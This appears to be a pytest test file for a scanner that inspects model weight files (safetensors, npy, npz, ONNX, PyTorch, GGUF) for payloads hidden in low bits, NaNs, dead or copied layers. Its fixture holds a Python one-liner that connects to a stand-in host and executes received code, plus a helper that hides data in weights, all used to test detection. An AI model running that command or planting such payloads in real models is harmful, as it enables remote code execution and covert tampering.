"""Weights: where tensors stand in each format, what is odd in their numbers, and honest ones that stay silent.

Payloads are put in as published tools do (the low k bits of each element, most significant bit first; whole low bytes).
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from inspect_samples import torch_zip
from weights_samples import matrix

from watchword.inspect import Verdict, inspect_path
from watchword.inspect.source import Held
from watchword.inspect.tensors.listing import tensors_of
from watchword.inspect.tensors.low_bits import payload

np = pytest.importorskip("numpy")
WINDOW = 65_536
RANDOM = np.random.default_rng(7)
NORMAL = RANDOM.normal(0, 0.02, WINDOW).astype("<f4")
TEXT = b"import os, sys, socket; s = socket.socket(); s.connect(('198.51.100.7', 4444)); exec(s.recv(4096))\n" * 900
CHANCE = RANDOM.bytes(WINDOW * 2)


def upcast(values: Any, bits: int = 16) -> Any:
    """Rounded to a shorter type and back: the lowest bits are zero."""
    return ((values.view("<u4") + (1 << (bits - 1))) >> bits << bits).view("<f4")


def uniform(bound: float) -> Any:
    """Initialised as frameworks do: 24 random bits, scaled. A bound that is a power of two leaves biased low bits."""
    return (RANDOM.integers(0, 2**24, WINDOW) / 2**24).astype("<f4") * np.float32(2 * bound) - np.float32(bound)


def hidden(values: Any, width: int, data: bytes) -> Any:
    """*values* with the bits of *data* in the low *width* bits of its elements."""
    words = values.view(f"<u{values.dtype.itemsize}").copy()
    bits = np.unpackbits(np.frombuffer(data, "u1"))
    count = min(len(words), len(bits) // width)
    parts = np.zeros(count, words.dtype)
    for place in range(width):
        parts = (parts << 1) | bits[: count * width].reshape(count, width)[:, place].astype(words.dtype)
    words[:count] = (words[:count] >> width << width) | parts
    return words.view(values.dtype)


def odd(values: Any, dtype: str) -> tuple[str, str] | None:
    return payload(values.view(f"<u{values.dtype.itemsize}"), dtype)


SCALES = np.repeat(RANDOM.uniform(0.0005, 0.002, WINDOW // 128).astype("<f4"), 128)
HONEST: dict[str, tuple[Any, str]] = {
    "normal": (NORMAL, "F32"),
    "normal, double": (RANDOM.normal(0, 1, WINDOW), "F64"),
    "normal, half": (NORMAL.astype("<f2"), "F16"),
    "tiny, half": ((NORMAL / 1000).astype("<f2"), "F16"),
    "normal, bfloat": ((upcast(NORMAL).view("<u4") >> 16).astype("<u2"), "BF16"),
    "bfloat in float": (upcast(NORMAL), "F32"),
    "half in float": (NORMAL.astype("<f2").astype("<f4"), "F32"),
    "float in double": (NORMAL.astype("<f8"), "F64"),
    "mean of two bfloats": ((upcast(NORMAL) + RANDOM.permutation(upcast(NORMAL))) / 2, "F32"),
    "bfloat, some rows trained on": (np.concatenate([NORMAL[:20_000], upcast(NORMAL)[20_000:]]), "F32"),
    "positions": (np.arange(WINDOW).astype("<f4"), "F32"),
    "sines": (np.sin(np.arange(WINDOW) / 10000 ** (np.arange(WINDOW) % 384 / 384)).astype("<f4"), "F32"),
    "pixels": ((RANDOM.integers(0, 256, WINDOW) / 255).astype("<f4"), "F32"),
    "eight-bit levels": ((np.round(NORMAL / 0.001) * np.float32(0.001)).astype("<f4"), "F32"),
    "levels in blocks": ((np.round(NORMAL / SCALES) * SCALES).astype("<f4"), "F32"),
    "levels in blocks, half": ((np.round(NORMAL / SCALES) * SCALES).astype("<f2"), "F16"),
    "pruned": (np.where(RANDOM.random(WINDOW) < 0.9, np.float32(0), NORMAL), "F32"),
    "rows repeated": (np.tile(NORMAL[:512], WINDOW // 512), "F32"),
    "integers": (RANDOM.integers(-128, 128, WINDOW).astype("<f4"), "F32"),
} | {f"uniform within {bound}": (uniform(bound), "F32") for bound in (1, 0.5, 0.125, 0.0625, 1 / 768**0.5)}


@pytest.mark.parametrize("name", HONEST)
def test_honest_weights_stay_silent(name: str) -> None:
    """Trained, rounded, quantised, pruned or fresh: nothing is hidden in them and nothing is said."""
    assert odd(*HONEST[name]) is None


@pytest.mark.parametrize("width", [1, 2, 3, 4, 8])
@pytest.mark.parametrize("dtype", ["F32", "F16"])
def test_text_in_low_bits_is_found(width: int, dtype: str) -> None:
    """A script in the low bits of every element, in full and in half precision."""
    found = odd(hidden(NORMAL.astype("<f2") if dtype == "F16" else NORMAL, width, TEXT * width), dtype)
    assert found is not None
    if width != 3:
        assert "socket" in found[1]


@pytest.mark.parametrize("width", [1, 4, 8, 12])
def test_chance_below_zero_bits_is_found(width: int) -> None:
    """Even an encrypted payload shows in weights that were rounded: random bits stand below bits that are all zero."""
    found = odd(hidden(upcast(NORMAL), width, CHANCE), "F32")
    assert found is not None and "the bits above are all zero" in found[0]
    assert odd(hidden(NORMAL.astype("<f2").astype("<f4"), min(width, 8), CHANCE), "F32") is not None


def test_a_program_in_the_low_bytes_is_found() -> None:
    """Three of four bytes of each weight replaced: the program is there, byte by byte."""
    data = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + TEXT
    raw = NORMAL.view("u1").reshape(-1, 4).copy()
    program = np.frombuffer((data * 3)[: WINDOW * 3], "u1")
    program = program[: len(program) // 3 * 3].reshape(-1, 3)
    raw[: len(program), :3] = program
    found = odd(raw.reshape(-1).view("<f4"), "F32")
    assert found is not None and found[1].startswith("7f 45 4c 46")


def test_what_looks_like_chance_in_full_precision_is_not_claimed() -> None:
    """An encrypted payload in trained float32 weights cannot be told from them; saying so would be a guess."""
    assert odd(hidden(NORMAL, 1, CHANCE), "F32") is None


# -- files ----------------------------------------------------------------------------------------


def safetensors(**arrays: Any) -> bytes:
    names = {"<f4": "F32", "<f2": "F16", "<i8": "I64"}
    header: dict[str, Any] = {}
    body = b""
    for name, array in arrays.items():
        header[name] = {
            "dtype": names[array.dtype.str],
            "shape": list(array.shape),
            "data_offsets": [len(body), len(body) + array.nbytes],
        }
        body += array.tobytes()
    raw = json.dumps(header).encode()
    return len(raw).to_bytes(8, "little") + raw + body


def look(tmp_path: Path, data: bytes, name: str = "model.safetensors") -> tuple[set[str], str]:
    """The rules that found something in the weights, and the notes."""
    (tmp_path / name).write_bytes(data)
    result = inspect_path(tmp_path / name, weights=True)
    return {f.rule for f in result.findings if f.rule.startswith("weights-")}, "\n".join(result.files[0].notes)


def test_an_honest_model_has_a_note_and_no_finding(tmp_path: Path) -> None:
    """Layers, zeros where adapters begin, ones where norms do, a tied head, a mask of minus infinity."""
    mask = np.where(np.triu(np.ones((64, 64)), 1) > 0, -np.inf, 0).astype("<f4")
    layers = {f"layers.{n}.weight": matrix(n) for n in range(4)}
    more = {"lora_B": np.zeros((64, 64), "<f4"), "norm": np.ones(64, "<f4"), "mask": mask, "head": matrix(0)}
    found, notes = look(tmp_path, safetensors(**layers, **more))
    assert found == set()
    assert "weights of 8 tensors were read" in notes
    assert "1 of 7 matrices are one constant: lora_B" in notes
    assert "2 tensors hold the same numbers" in notes


def test_not_a_number_and_stray_infinities_are_found(tmp_path: Path) -> None:
    """One NaN in a matrix, and one infinity that is no mask."""
    bad = matrix(1)
    bad[3, 3] = np.nan
    assert look(tmp_path, safetensors(w=bad))[0] == {"weights-nan"}
    bad = matrix(1).astype("<f2")
    bad[3, 3] = np.inf
    assert look(tmp_path, safetensors(w=bad))[0] == {"weights-nan"}


def test_a_model_of_constants_is_dead(tmp_path: Path) -> None:
    """Five of six matrices are zero: nothing was learnt, or it was taken out."""
    arrays = {f"w{chr(97 + n)}": np.zeros((64, 64), "<f4") for n in range(5)}
    assert look(tmp_path, safetensors(**arrays, last=matrix(1)))[0] == {"weights-dead"}


def test_a_copied_layer_is_found_and_fresh_copies_are_not(tmp_path: Path) -> None:
    """One of four layers copied from another; all four equal is how some frameworks initialise."""
    some = {f"layers.{n}.weight": matrix(n % 3) for n in range(4)}
    assert look(tmp_path, safetensors(**some))[0] == {"weights-duplicated"}
    every = {f"layers.{n}.weight": matrix(0) for n in range(4)}
    assert look(tmp_path, safetensors(**every))[0] == set()


def test_a_payload_is_found_in_each_format(tmp_path: Path) -> None:
    """safetensors, .npy, .npz and PyTorch; the place is the tensor's in the file, and the whole is suspicious."""
    onnx = pytest.importorskip("onnx")
    bad = hidden(NORMAL, 1, TEXT).reshape(256, 256)
    data = safetensors(w=bad)
    (tmp_path / "m.safetensors").write_bytes(data)
    result = inspect_path(tmp_path / "m.safetensors", weights=True)
    assert [(f.rule, f.offset) for f in result.findings] == [("weights-low-bits", len(data) - bad.nbytes)]
    assert result.verdict is Verdict.SUSPICIOUS
    np.save(tmp_path / "a.npy", bad)
    np.savez_compressed(tmp_path / "a.npz", w=bad)
    onnx_tensor = onnx.numpy_helper.from_array(bad, "w")
    side = [onnx.helper.make_tensor_value_info(name, onnx.TensorProto.FLOAT, [256, 256]) for name in ("x", "y")]
    nodes = [onnx.helper.make_node("Add", ["x", "w"], ["y"])]
    graph = onnx.helper.make_graph(nodes, "g", side[:1], side[1:], initializer=[onnx_tensor])
    onnx.save(onnx.helper.make_model(graph), tmp_path / "m.onnx")
    for name in ("a.npy", "a.npz", "m.onnx"):
        found = inspect_path(tmp_path / name, weights=True).findings
        assert [f.rule for f in found] == ["weights-low-bits"], name


def test_tensors_of_a_pytorch_archive_have_their_names_and_places() -> None:
    """Names come from the pickle, followed by symbols; the bytes are those of the storages."""
    data = torch_zip(tensors=3, count=10)
    found = tensors_of(Held(data))
    assert found is not None
    assert [(t.name, t.dtype, t.shape) for t in found] == [(f"layer{n}.weight", "F32", (10,)) for n in range(3)]
    assert all(t.offset is not None and t.data.read_at(0, 99) == data[t.offset : t.offset + 40] for t in found)


def test_tensors_of_gguf_are_listed_with_quantised_types() -> None:
    """A header written by hand after the specification: text, an array, two tensors, one in blocks of 32."""

    def text(value: str) -> bytes:
        return len(value).to_bytes(8, "little") + value.encode()

    def number(value: int, size: int = 8) -> bytes:
        return value.to_bytes(size, "little")

    head = b"GGUF" + number(3, 4) + number(2) + number(2)
    head += text("general.name") + number(8, 4) + text("m")
    head += text("tokens") + number(9, 4) + number(8, 4) + number(2) + text("a") + text("b")
    head += text("w") + number(2, 4) + number(4) + number(2) + number(0, 4) + number(0)
    head += text("q") + number(1, 4) + number(64) + number(8, 4) + number(32)
    head += bytes(-len(head) % 32)
    found = tensors_of(Held(head + bytes(range(32)) + bytes(68)))
    assert found is not None
    assert [(t.name, t.dtype, t.shape, t.data.size, t.offset) for t in found] == [
        ("w", "F32", (2, 4), 32, len(head)),
        ("q", "Q8_0", (64,), 68, len(head) + 32),
    ]


@given(
    st.binary(max_size=300),
    st.sampled_from([b"GGUF", b"\x93NUMPY\x01\0", b"PK\3\4", b"\x08\x07", b"\xff\0\0\0\0\0\0\0{"]),
)
def test_listing_takes_any_bytes(data: bytes, head: bytes) -> None:
    """Damage raises nothing, and lists nothing that is not in the file."""
    whole = head + data
    for one in tensors_of(Held(whole)) or ():
        assert len(one.data.read_at(0, one.data.size)) == one.data.size <= len(whole), one.name


def test_without_numpy_the_weights_are_not_silently_left_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Asked to read weights and unable to: an error that says what to install, never a clean verdict."""
    import sys

    from watchword.inspect.tensors.numbers import NoNumbers

    (tmp_path / "m.safetensors").write_bytes(safetensors(w=matrix(1)))
    monkeypatch.setitem(sys.modules, "numpy", None)
    with pytest.raises(NoNumbers, match="numpy"):
        inspect_path(tmp_path / "m.safetensors", weights=True)
    assert inspect_path(tmp_path / "m.safetensors").verdict is Verdict.NOTHING_FOUND


@pytest.mark.parametrize("save", ["state", "module", "nested"])
def test_torch_saves_are_listed_as_torch_names_them(save: str) -> None:
    """Names, types and shapes are those of ``state_dict`` for what torch itself writes."""
    torch = pytest.importorskip("torch")
    inner = torch.nn.Sequential(torch.nn.Linear(2, 2, bias=False), torch.nn.BatchNorm1d(2))
    model = torch.nn.Sequential(torch.nn.Linear(3, 2), inner)
    prefix = "model." if save == "nested" else ""
    whole: dict[str, Callable[[], Any]] = {
        "state": model.state_dict,
        "module": lambda: model,
        "nested": lambda: {"epoch": 3, "model": model.state_dict()},
    }
    torch.save(whole[save](), held := io.BytesIO())
    found = tensors_of(Held(held.getvalue()))
    assert found is not None
    wanted = [(prefix + name, tuple(value.shape)) for name, value in model.state_dict().items()]
    assert [(t.name, t.shape) for t in found] == wanted
